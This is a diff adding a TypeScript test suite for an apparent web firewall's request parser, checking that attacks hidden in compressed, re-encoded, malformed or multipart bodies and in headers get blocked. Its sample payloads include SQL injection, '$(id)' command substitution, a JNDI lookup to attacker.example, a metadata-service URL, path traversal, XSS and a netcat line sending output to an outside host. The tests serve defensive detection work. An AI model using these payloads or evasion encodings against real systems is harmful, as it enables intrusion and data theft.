@@ -1,0 +1,399 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
+import fc from 'fast-check';
+import { addJsonText } from '../../src/client-request/json-text.ts';
+import { MemberWriter } from '../../src/client-request/member-writer.ts';
+import {
+  type Members,
+  membersOf,
+  type RequestBody,
+} from '../../src/client-request/request-members.ts';
+import { defaultPolicy } from '../../src/contract/policy.ts';
+import { noContext } from '../../src/contract/request.ts';
+import { createEngine } from '../../src/core/engine.ts';
+
+type Headers = Readonly<Record<string, string | readonly string[]>>;
+
+const sql = "' OR 1=1 --";
+const raw = (bytes: string | Buffer, isComplete = true): RequestBody => ({
+  kind: 'raw',
+  bytes: Buffer.from(bytes),
+  isComplete,
+});
+
+function read(body: RequestBody, headers: Headers = {}, url = '/'): Promise<Members> {
+  return membersOf({ method: 'POST', url, headers, address: '' }, body);
+}
+
+const engine = createEngine();
+const isBlocked = ({ texts }: Members): boolean =>
+  texts.some((text) => {
+    const result = engine.screen({ body: text, context: noContext }, defaultPolicy);
+    return result.kind === 'verdict' && result.verdict.decision === 'block';
+  });
+
+const bodyStrings = ({ texts }: Members): unknown[] =>
+  texts.flatMap((text) =>
+    Object.entries(JSON.parse(text) as object).flatMap(([name, value]) =>
+      name.startsWith('body') ? [value] : [],
+    ),
+  );
+
+const json = { 'content-type': 'application/json' };
+const form = { 'content-type': 'application/x-www-form-urlencoded' };
+const jsonOf = (text: string): string => JSON.stringify({ q: text });
+
+function swapped(text: string): Buffer {
+  return Buffer.from(text, 'utf16le').swap16();
+}
+
+function utf32(text: string): Buffer {
+  const bytes = Buffer.alloc(text.length * 4);
+  for (let i = 0; i < text.length; i += 1) bytes.writeUInt32LE(text.charCodeAt(i), i * 4);
+  return bytes;
+}
+
+/** Each is read by some application as a body with the attack in it. */
+const hidden: Readonly<Record<string, readonly [body: RequestBody, headers: Headers]>> = {
+  'names of a file part in JSON': [
+    raw(JSON.stringify({ fieldname: 1, mimetype: 1, originalname: 'x', q: sql })),
+    json,
+  ],
+  'names of a file part in a parsed body': [
+    { kind: 'parsed', value: { fieldname: 1, mimetype: 1, filter: { name: sql } } },
+    json,
+  ],
+  'a value member beside other members': [
+    { kind: 'parsed', value: { fieldname: 'a', mimetype: 'b', fields: {}, value: 'x', q: sql } },
+    json,
+  ],
+  'gzip that is none': [raw(jsonOf(sql)), { ...json, 'content-encoding': 'gzip' }],
+  'a coding that nobody knows': [raw(jsonOf(sql)), { ...json, 'content-encoding': 'foo' }],
+  'gzip twice': [
+    raw(gzipSync(gzipSync(jsonOf(sql)))),
+    { ...json, 'content-encoding': 'gzip, gzip' },
+  ],
+  'deflate without a head': [
+    raw(deflateRawSync(jsonOf(sql))),
+    { ...json, 'content-encoding': 'deflate' },
+  ],
+  'deflate with a head': [
+    raw(deflateSync(jsonOf(sql))),
+    { ...json, 'content-encoding': 'deflate' },
+  ],
+  brotli: [raw(brotliCompressSync(jsonOf(sql))), { ...json, 'content-encoding': 'br' }],
+  'gzip that is cut': [
+    raw(gzipSync(jsonOf(sql + ' '.repeat(50))).subarray(0, -9)),
+    { ...json, 'content-encoding': 'gzip' },
+  ],
+  'the beginning of a bomb': [
+    raw(gzipSync(`{"q":"${sql}","pad":"${'x'.repeat(5_242_880)}"}`)),
+    { ...json, 'content-encoding': 'gzip' },
+  ],
+  'a form in a packed body': [
+    raw(Buffer.concat([gzipSync('x'), Buffer.from(`&q=${sql}&`)])),
+    { ...form, 'content-encoding': 'gzip' },
+  ],
+  'UTF-8 called UTF-16, odd': [
+    raw(`${jsonOf(sql)} `.slice(0, 21)),
+    { 'content-type': 'application/json; charset=utf-16le' },
+  ],
+  'UTF-8 called UTF-16, even': [
+    raw(jsonOf(`${sql} `)),
+    { 'content-type': 'application/json; charset=utf-16' },
+  ],
+  'UTF-16 of the other byte order': [
+    raw(swapped(jsonOf(sql))),
+    { 'content-type': 'application/json; charset=utf-16' },
+  ],
+  'UTF-16 without a word': [raw(swapped(jsonOf(sql))), json],
+  'UTF-32 without a word': [raw(utf32(jsonOf(sql))), json],
+  'two charsets': [
+    raw(Buffer.from(jsonOf(sql), 'utf16le')),
+    { 'content-type': 'application/json; charset=utf-8; charset=utf-16le' },
+  ],
+  'a picture that is JSON': [
+    raw(
+      Buffer.concat([Buffer.from(jsonOf(sql).slice(0, -1)), Buffer.from(',"p":"\xff"}', 'latin1')]),
+    ),
+    { 'content-type': 'image/png' },
+  ],
+  'a picture that is a form': [
+    raw(Buffer.from(`\x89PNG\xff&q=${sql}&\xff`, 'latin1')),
+    { 'content-type': 'image/png' },
+  ],
+  'JSON called a form': [raw(jsonOf("' UNION/*&*/SELECT/*&*/password/*&*/FROM/*&*/users--")), form],
+  'JSON called a text': [raw('{"a":"x","a":"$(id)"}'), { 'content-type': 'text/plain' }],
+  'the first of two names': [raw(`{"u":"${sql}","u":"alice"}`), json],
+  'a name twice, deep': [raw(`[{"a":{"u":"${sql}","u":"alice"}}]`), json],
+  NaN: [raw(`{"n":NaN,"u":"admin' --"}`), json],
+  'a comma too many': [raw(`{"u":"1 OR 1=1",}`), json],
+  'comments in JSON': [raw(`{/*"*/"u":"1 OR 1=1"} // "`), json],
+  'single quotes': [raw(`{'u':'http://169.254.169.254/latest/meta-data/'}`), json],
+  'names without quotes': [raw(`{u:"1 OR 1=1"}`), json],
+  'escapes of JavaScript': [raw(`{"u":"\\x27 OR 1=1 --"}`), json],
+  'a stream of documents': [raw(`{"a":1}\n{"u":"1 OR 1=1"}`), json],
+  'a list of parts': [
+    raw('{"id":["0/*","*/union/*","*/select/*","*/password/*","*/from/*","*/users"]}'),
+    json,
+  ],
+  'a list in a list': [raw('[["0/*"],["*/union/*",["*/select/*","*/a from/*"],"*/users"]]'), json],
+  'parts of a form': [
+    raw('id=0/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users'),
+    form,
+  ],
+  'bytes behind a packed stream': [
+    raw(Buffer.concat([gzipSync('a'), Buffer.from(sql)])),
+    { 'content-encoding': 'gzip' },
+  ],
+  'bytes behind a packed stream in a form': [
+    raw(Buffer.concat([deflateSync('a=b'), Buffer.from(`x&+%71=${sql}`)])),
+    { ...form, 'content-encoding': 'deflate' },
+  ],
+  'the seven bits of ASCII': [raw(Buffer.from('q=\xa7 OR 1=1 --', 'latin1')), form],
+  'a text that a parser handed on': [{ kind: 'parsed', value: `{"a":"$(id)","a":""}` }, json],
+};
+
+const file = (content: string, disposition: string, head = 'Content-Type: image/png\r\n'): string =>
+  `--B\r\nContent-Disposition: form-data; ${disposition}\r\n${head}\r\n${content}\r\n--B--\r\n`;
+
+const parts: Readonly<Record<string, string>> = {
+  'an empty file name': file(sql, 'name="q"; filename=""'),
+  'a file name of dots': file(sql, 'name="q"; filename="../"'),
+  'only an extended file name': file(sql, `name="q"; filename*=utf-8''x.png`),
+  'a file name without a type': file(sql, 'name="q"; filename="x.png"', ''),
+  'a type that is none': file(sql, 'name="q"; filename="x.png"', 'Content-Type: ;\r\n'),
+  'two types': file(
+    sql,
+    'name="q"; filename="x.png"',
+    'Content-Type: image/png\r\nContent-Type: text/plain\r\n',
+  ),
+  'a lone line feed in the head': file(
+    sql,
+    'name="q"; filename="x.png"',
+    'Content-Type: a/b\nX: y\r\n',
+  ),
+  'a boundary behind a lone line feed': file(
+    `x\n--B\nContent-Disposition: form-data; name="q"\n\n${sql}\n--B--`,
+    'name="f"; filename="x.png"',
+  ),
+  'a type that is an attack': file(
+    'x',
+    'name="f"; filename="x.png"',
+    'Content-Type: image/png; x=<svg onload=alert(1)>\r\n',
+  ),
+  'quoted-printable': file(
+    '=27 OR 1=3D1 --',
+    'name="q"',
+    'Content-Transfer-Encoding: quoted-printable\r\n',
+  ),
+  'a disposition that is none': `\r\n--B\r\nContent-Disposition:z"\r\n\r\n;id|nc e.test 4444\r\n--B--`,
+  'base64 without a disposition': file(
+    'JyBPUiAxPTEgLS0=',
+    'x="',
+    'Content-Transfer-Encoding: base64\r\n',
+  ),
+  'UTF-16 without a disposition': file(
+    Buffer.from(sql, 'utf16le').toString('latin1'),
+    'x="',
+    'Content-Type: a/b; charset=utf-16le\r\n',
+  ),
+  'a file name in pieces': file('x', `name="f"; filename*0="' OR 1"; filename*1="=1 --"`),
+  'base64 of a short text': file(
+    Buffer.from('$(id)').toString('base64'),
+    'name="q"',
+    'Content-Transfer-Encoding: base64\r\n',
+  ),
+};
+
+describe('an attack in a body', () => {
+  for (const [name, [body, headers]] of Object.entries(hidden)) {
+    it(`is found behind ${name}`, async () => {
+      const members = await read(body, headers);
+      assert.ok(isBlocked(members), members.texts.join('\n').slice(0, 2_000));
+    });
+  }
+  for (const [name, body] of Object.entries(parts)) {
+    it(`is found behind ${name} of a part`, async () => {
+      const headers = { 'content-type': 'multipart/form-data; boundary=B' };
+      const members = await read(raw(body), headers);
+      assert.ok(isBlocked(members), members.texts.join('\n'));
+    });
+  }
+
+  it('of a charset that nobody can decode is incomplete', async () => {
+    const members = await read(raw('{"a":"b"}'), {
+      'content-type': 'application/json; charset=ibm037',
+    });
+    assert.equal(members.omission, 'coding');
+  });
+});
+
+describe('an honest body', () => {
+  const picture = Buffer.concat([
+    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
+    Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7_919 + (i >> 3)) & 0xff)),
+  ]);
+
+  it('that is a file by type and signature is not read', async () => {
+    const members = await read(raw(picture, false), { 'content-type': 'image/png' });
+    assert.ok(members.isComplete);
+    assert.deepEqual(bodyStrings(members), []);
+  });
+
+  it('is read once where there is no doubt', async () => {
+    const honest: readonly (readonly [RequestBody, Headers, unknown[]])[] = [
+      [raw('{"a":"b","n":1}'), json, ['b', 1]],
+      [raw('{"a":"ö"}'), { 'content-type': 'application/json; charset=UTF-8' }, ['ö']],
+      [raw('{"a":"b"}'), { 'content-type': 'application/json; charset=iso-8859-1' }, ['b']],
+      [raw('{"a":"b"}'), { 'content-type': 'application/json; charset=binary' }, ['b']],
+      [raw(gzipSync('{"a":"b"}')), { ...json, 'content-encoding': 'gzip' }, ['b']],
+      [raw(brotliCompressSync('{"a":"b"}')), { ...json, 'content-encoding': 'br' }, ['b']],
+      [raw('a=b&c=d'), form, ['b', 'd']],
+      [raw('<p>text</p>'), { 'content-type': 'text/html' }, ['<p>text</p>']],
+    ];
+    for (const [body, headers, expected] of honest) {
+      const members = await read(body, headers);
+      assert.deepEqual(bodyStrings(members), expected);
+      assert.ok(members.isComplete);
+    }
+  });
+
+  it('of several files with a charset beside the boundary keeps its files unread', async () => {
+    const body = file(sql, 'name="f"; filename="x.png"');
+    for (const type of ['charset=utf-8; boundary=B', 'boundary="B"; charset=ISO-8859-1']) {
+      const members = await read(raw(body), { 'content-type': `multipart/form-data; ${type}` });
+      assert.deepEqual(bodyStrings(members), ['x.png']);
+    }
+  });
+});
+
+describe('a head', () => {
+  const jndi = '${jndi:ldap://attacker.example/a}';
+  const names = ['x-api-version', 'accept', 'authorization', 'x-request-id', 'if-none-match'];
+  for (const name of [...names, 'accept-encoding', 'x-csrf-token', 'x-tenant', 'connection']) {
+    it(`is screened in ${name}`, async () => {
+      assert.ok(isBlocked(await read({ kind: 'none' }, { [name]: [jndi] })));
+    });
+  }
+
+  it('of a browser is screened but for what can hold nothing', async () => {
+    const headers = {
+      accept: ['text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8'],
+      'accept-encoding': ['gzip, deflate, br, zstd'],
+      'accept-language': ['en-US,en;q=0.9,de-CH;q=0.8'],
+      'sec-ch-ua': ['"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
+      'sec-ch-ua-mobile': ['?0'],
+      'sec-ch-ua-platform': ['"Windows"'],
+      'sec-fetch-mode': ['navigate'],
+      'if-modified-since': ['Wed, 21 Oct 2015 07:28:00 GMT'],
+      connection: ['keep-alive'],
+      priority: ['u=0, i'],
+    };
+    const { texts } = await read({ kind: 'none' }, headers);
+    assert.deepEqual(JSON.parse(texts[0] ?? ''), { method: 'POST', path: '/' });
+    for (const [name, [value = '']] of Object.entries(headers)) {
+      for (const odd of [`${value}'`, `${value}, ../../etc/passwd`, `$(id) ${value}`]) {
+        const members = await read({ kind: 'none' }, { [name]: [odd] });
+        assert.ok(members.texts[0]?.includes(JSON.stringify(odd)), odd);
+      }
+    }
+  });
+
+  it('is screened in an address that is none, and in fragments of the target', async () => {
+    const none: RequestBody = { kind: 'none' };
+    assert.ok(isBlocked(await read(none, { 'x-forwarded-for': ['$(id)'] })));
+    assert.ok(isBlocked(await read(none, {}, `/#?q=${encodeURIComponent(sql)}`)));
+    assert.ok(isBlocked(await read(none, {}, `/??q=${encodeURIComponent(sql)}`)));
+    assert.ok(isBlocked(await read(none, {}, '/?kz=%5D=1 OR 1=1')));
+    assert.ok(isBlocked(await read(none, { 'x-csrf-token': ['1', "' OR 1=1 --"] })));
+    assert.ok(isBlocked(await read(none, { cookie: ["a=' OR/*", '*/1=1 --'] })));
+  });
+
+  it('is screened in the user of Basic, and keeps tokens and passwords to itself', async () => {
+    const basic = (text: string) => `Basic ${Buffer.from(text).toString('base64')}`;
+    const user = basic(`${sql}:x`);
+    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [user] })));
+    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [`${user},`] })));
+    const secret = 'correct-horse';
+    for (const value of [basic(`anna:${secret}`), `Bearer ${secret}`, secret]) {
+      const headers = { authorization: [value], 'x-api-key': [secret] };
+      const { texts } = await read({ kind: 'none' }, headers);
+      assert.ok(!texts.join().includes(secret) && !texts.join().includes(value));
+    }
+  });
+
+  it('is screened in repeated parameters of the query, also as a list', async () => {
+    const none: RequestBody = { kind: 'none' };
+    const query = 'id=0/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users';
+    assert.ok(isBlocked(await read(none, {}, `/p?${query}`)));
+    assert.ok(isBlocked(await read(none, {}, `/p?${query.replaceAll('id=', 'id[]=')}`)));
+    let index = 0;
+    const numbered = query.replaceAll('id=', () => `id[${index++}]=`);
+    assert.ok(isBlocked(await read(none, {}, `/p?${numbered}`)));
+    assert.ok(isBlocked(await read(none, {}, '/p?a=1;id=1 OR 1=1;b=2')));
+  });
+});
+
+describe('a JSON text', () => {
+  const readingOf = async (text: string) => {
+    const writer = new MemberWriter();
+    const reading = await addJsonText(writer, text);
+    return { reading, texts: writer.finish().texts };
+  };
+
+  it('is strict just where JSON.parse takes it', async () => {
+    const token = fc.constantFrom(
+      ...['{', '}', '[', ']', ',', ':', '"a"', '"\\u0041"', '"\\x41"', "'b'", '1', '-0.5e3', '01'],
+      ...['true', 'null', 'NaN', 'a', ' ', '\n', '\u00a0', '/**/', '"\u0001"', '"\\', '1.', '+1'],
+    );
+    const text = fc.oneof(
+      fc.array(token, { maxLength: 12 }).map((tokens) => tokens.join('')),
+      fc.json(),
+    );
+    await fc.assert(
+      fc.asyncProperty(text, async (one) => {
+        const { reading } = await readingOf(one);
+        assert.equal(reading === 'strict', isParsed(one), one);
+      }),
+      { numRuns: 3_000 },
+    );
+  });
+
+  it('gives every string of a value', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.jsonValue(), async (value) => {
+        const { reading, texts } = await readingOf(JSON.stringify(value));
+        assert.equal(reading, 'strict');
+        const all = new Set(texts.flatMap((text) => Object.values(JSON.parse(text) as object)));
+        for (const string of stringsIn(value)) assert.ok(string === '' || all.has(string), string);
+      }),
+    );
+  });
+
+  it('of two megabytes of anything comes to an end, within the bounds', async () => {
+    const pieces = ['[', '{"a":', '"\\u0041', '"\\x"', "'", '//\n', '/*', '"a",', '\\', '{}'];
+    for (const piece of pieces) {
+      for (const text of [piece.repeat(2_000_000 / piece.length), `[${piece.repeat(200_000)}`]) {
+        const { texts } = await readingOf(text);
+        assert.ok(texts.length >= 1 && texts.length <= 8);
+      }
+    }
+  });
+});
+
+function isParsed(text: string): boolean {
+  try {
+    JSON.parse(text);
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+function stringsIn(value: unknown): string[] {
+  if (typeof value === 'string') return [value];
+  if (typeof value !== 'object' || value === null) return [];
+  return Object.values(value).flatMap(stringsIn);
+}
